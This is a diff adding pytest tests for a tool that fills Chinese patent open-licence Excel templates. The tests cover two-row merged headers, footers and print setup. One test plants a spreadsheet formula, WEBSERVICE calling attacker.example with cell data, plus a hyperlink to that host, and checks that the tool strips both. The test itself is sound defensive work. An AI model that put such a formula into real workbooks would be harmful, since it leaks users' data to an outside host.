@@ -192,3 +192,96 @@ def test_any_text_round_trips_as_text(texts):
         expected = clean_text(text)
         if expected:
             assert cell.data_type == "s" and cell.value == expected
+
+
+# --- a bureau's template whose header spans two rows -----------------------------------------------------------------
+
+def make_two_row_template(path):
+    """A group caption 许可条件 merged over 支付方式 / 支付标准 / 许可期限; the other captions merged down."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "信息表"
+    sheet["A1"] = "专利开放许可信息表"
+    sheet.merge_cells("A1:G1")
+    for col, text in enumerate(["序号", "专利号", "专利名称", "专利权人"], start=1):
+        sheet.cell(2, col, text)
+        sheet.merge_cells(start_row=2, start_column=col, end_row=3, end_column=col)
+    sheet["E2"] = "许可条件"
+    sheet.merge_cells("E2:G2")
+    for col, text in enumerate(["支付方式", "支付标准", "许可期限"], start=5):
+        sheet.cell(3, col, text)
+    sheet["A6"] = "填报单位（盖章）："
+    book.save(path)
+
+
+def test_a_two_row_header_is_found_and_filled_below_the_second_row(tmp_path):
+    template = tmp_path / "two.xlsx"
+    make_two_row_template(template)
+    mapping = inspect_template(template)
+    assert (mapping.header_top, mapping.header_row) == (2, 3)
+    assert mapping.columns == {1: "seq", 2: "patent_number", 3: "title", 4: "patentees", 5: "payment_mode",
+                               6: "payment_standard", 7: "licence_term"}
+    assert mapping.groups == {5: "许可条件", 6: "许可条件", 7: "许可条件"} and mapping.unmapped == []
+    data = [dict(r, licence_term="36个月") for r in rows(3)]
+    sheet = openpyxl.load_workbook(__import__("io").BytesIO(fill_template(template, mapping, data, MOMENT)))["信息表"]
+    # the header rows, their merges and the sub-headers are untouched
+    assert [sheet.cell(3, c).value for c in (5, 6, 7)] == ["支付方式", "支付标准", "许可期限"]
+    assert sheet["E2"].value == "许可条件" and sheet["A2"].value == "序号"
+    merges = {str(m) for m in sheet.merged_cells.ranges}
+    assert {"E2:G2", "A2:A3", "B2:B3", "C2:C3", "D2:D3", "A1:G1"} <= merges
+    # every patent is there, from row 4, none lost under the sub-header
+    assert [sheet.cell(r, 2).value for r in range(4, 7)] == [f"ZL20211012345{i}.7" for i in range(3)]
+    assert [sheet.cell(r, 5).value for r in range(4, 7)] == ["一次性支付"] * 3
+    assert sheet.cell(4, 7).value == "36个月"
+    assert sheet["A7"].value == "填报单位（盖章）："  # the footer moved below the rows
+    assert sheet.print_title_rows == "$1:$3" and sheet.page_setup.orientation == "landscape"
+
+
+def test_the_sub_header_row_found_first_still_gives_the_whole_header(tmp_path):
+    from openlic_desktop.documents.info_table import header_span
+
+    template = tmp_path / "two.xlsx"
+    make_two_row_template(template)
+    sheet = openpyxl.load_workbook(template)["信息表"]
+    assert header_span(sheet, 3) == (2, 3) and header_span(sheet, 2) == (2, 3)
+    plain = tmp_path / "plain.xlsx"
+    make_template(plain)
+    assert header_span(openpyxl.load_workbook(plain)["附件1"], 3) == (3, 3)
+
+
+def test_a_templates_formulas_and_links_are_not_kept(tmp_path):
+    template = tmp_path / "evil.xlsx"
+    make_template(template, footer=False)
+    book = openpyxl.load_workbook(template)
+    sheet = book["附件1"]
+    sheet["H3"] = "核对"
+    sheet["H4"] = '=WEBSERVICE("http://attacker.example/?d="&C4&B4)'
+    sheet["A10"] = "填表说明"
+    sheet["A10"].hyperlink = "http://attacker.example/"
+    book.save(template)
+    mapping = inspect_template(template)
+    assert {"附件1!H4", "附件1!A10"} <= set(mapping.active_content)
+    blob = fill_template(template, mapping, rows(2), MOMENT)
+    import zipfile
+
+    with zipfile.ZipFile(__import__("io").BytesIO(blob)) as z:
+        xml = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml")
+                      or n.endswith(".rels"))
+    assert "WEBSERVICE" not in xml and "attacker.example" not in xml and "<f>" not in xml
+    filled = openpyxl.load_workbook(__import__("io").BytesIO(blob))["附件1"]
+    assert filled["B4"].value == "ZL202110123450.7" and filled["A10"].value == "填表说明"
+
+
+def test_profile_table_has_the_commitment_footer_encumbrances_and_print_setup(tmp_path):
+    layout = get_profile("general").layout
+    fields = [c.field for c in layout.columns]
+    assert "encumbrance" in fields and "contact_address" in fields
+    blob = write_profile_table(layout, rows(2), {"office": "测试大学", "date": "2026-11-26", "count": 2}, MOMENT)
+    sheet = openpyxl.load_workbook(__import__("io").BytesIO(blob))[layout.sheet]
+    texts = [sheet.cell(r, 1).value for r in range(1, sheet.max_row + 1)]
+    assert texts[-3].startswith("承诺：以上信息真实、准确、完整") and texts[-2] == "专利权人（盖章）："
+    assert texts[-1] == "日期：　　　　年　　月　　日"
+    assert sheet.print_title_rows == "$1:$3" and sheet.page_setup.orientation == "landscape"
+    # fit to one page wide (1 is the default width, so the file may leave it out), as many pages tall as needed
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth in (None, 1)
+    assert sheet.page_setup.fitToHeight == 0 and sheet.print_options.gridLines
